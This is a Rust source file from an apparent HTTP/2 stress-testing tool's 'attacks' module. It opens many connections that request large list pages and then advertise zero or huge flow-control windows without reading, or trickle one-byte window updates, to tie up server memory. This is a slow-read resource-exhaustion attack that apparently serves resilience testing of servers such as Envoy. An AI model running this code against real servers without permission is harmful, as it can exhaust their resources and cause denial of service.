//! Answers that nobody reads.

use std::io;
use std::time::Duration;

use super::{LARGEST_PAGE, LIST, Scene, call};
use crate::attacks::connection::{Connection, setting};
use crate::attacks::frames::Frames;
use crate::attacks::got::Got;
use crate::wait;

const CONNECTIONS: usize = 10;
const STREAMS: u32 = 250;
/// `page_size` 60, with the longest names: what Envoy just takes off a server's hands.
const FITTING_PAGE: &[u8] = &[0x08, 60];
const PAUSE: Duration = Duration::from_millis(50);

pub(super) fn lists(scene: &Scene) -> io::Result<Got> {
    ask(scene, |_, _| {})
}

pub(super) fn slowly(scene: &Scene) -> io::Result<Got> {
    ask(scene, |connection, streams| {
        let frames = (0..streams).fold(Frames::default(), |frames, number| frames.window_update(2 * number + 1, 1));
        connection.send(&frames);
    })
}

/// Half of the connections have no window, half have all the window in the world and do not read.
fn ask(scene: &Scene, meanwhile: impl Fn(&mut Connection, u32)) -> io::Result<Got> {
    const WIDE: u32 = 0x7fff_0000;
    let mut all = Vec::new();
    let mut got = Got::default();
    for number in 0..CONNECTIONS {
        let deaf = number % 2 == 1;
        let window = if deaf { WIDE } else { 0 };
        let mut connection = Connection::open_with(scene.address, &[(setting::INITIAL_WINDOW_SIZE, window)])?;
        let mut frames = Frames::default();
        if deaf {
            frames = frames.window_update(0, WIDE);
        }
        for call_number in 0..STREAMS {
            let page = if call_number % 2 == 0 { LARGEST_PAGE } else { FITTING_PAGE };
            let stream = connection.next_stream();
            frames = frames.headers(stream, &call(LIST), 0).message(stream, page);
        }
        connection.write(frames.bytes());
        all.push((deaf, connection));
    }
    got.count_many("calls", CONNECTIONS as u64 * u64::from(STREAMS));
    while !scene.is_over() {
        for (_, connection) in all.iter_mut().filter(|(deaf, connection)| !deaf && connection.is_open()) {
            connection.hear();
            meanwhile(connection, STREAMS);
        }
        wait::rest(PAUSE.min(scene.left()));
    }
    for (deaf, connection) in &mut all {
        // What a deaf one was sent meanwhile is read at last, as far as it lies here.
        connection.hear();
        let left = u64::from(STREAMS).saturating_sub(connection.ended) * u64::from(connection.is_open() && !*deaf);
        got.count_many("kept to the end", left);
        got.add(&connection.got);
    }
    Ok(got)
}
